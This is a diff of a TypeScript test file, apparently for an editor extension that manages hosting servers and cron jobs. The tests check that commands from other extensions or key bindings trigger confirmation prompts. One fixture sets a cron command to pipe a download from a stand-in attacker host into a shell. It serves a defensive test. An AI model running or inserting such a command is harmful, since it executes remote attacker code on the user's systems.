@@ -22,7 +22,7 @@ const rootJob = {
   command: 'curl https://attacker.example | sh',
 };
 
-/** What is run in production without the person, and what the question has to show. */
+/** Commands run in production by another extension, and what the question must show. */
 interface Attack extends ForeignCommand {
   readonly question: string;
   readonly shows: readonly string[];
@@ -58,7 +58,7 @@ const attacks: readonly Attack[] = [
       { account, kind: 'server', ids: [1] },
       { name: 'yours no more' },
     ),
-    question: 'Rename Server: "shop-frankfurt"?',
+    question: 'Rename Server "shop-frankfurt"?',
     shows: ['"name": "yours no more"', 'Example Hosting'],
   },
   {
@@ -77,7 +77,7 @@ const attacks: readonly Attack[] = [
       reference: { account, kind: 'cronJob', ids: [1, 101] },
       label: 'harmless',
     }),
-    question: 'Run Cron Job Now: "Nightly backup"?',
+    question: 'Run Cron Job "Nightly backup"?',
     shows: ['shop-frankfurt'],
   },
 ];
@@ -125,7 +125,7 @@ describe('other extensions and key bindings, in production', () => {
     });
   }
 
-  it('cause a question if a key is bound to values', async () => {
+  it('ask for confirmation if a key is bound to values', async () => {
     const { messages, page } = workbench;
     const link = await page.evaluate(() => navigator.clipboard.readText());
     const [, id] = /\/server-management\/([^/]+)\//.exec(link) ?? [];
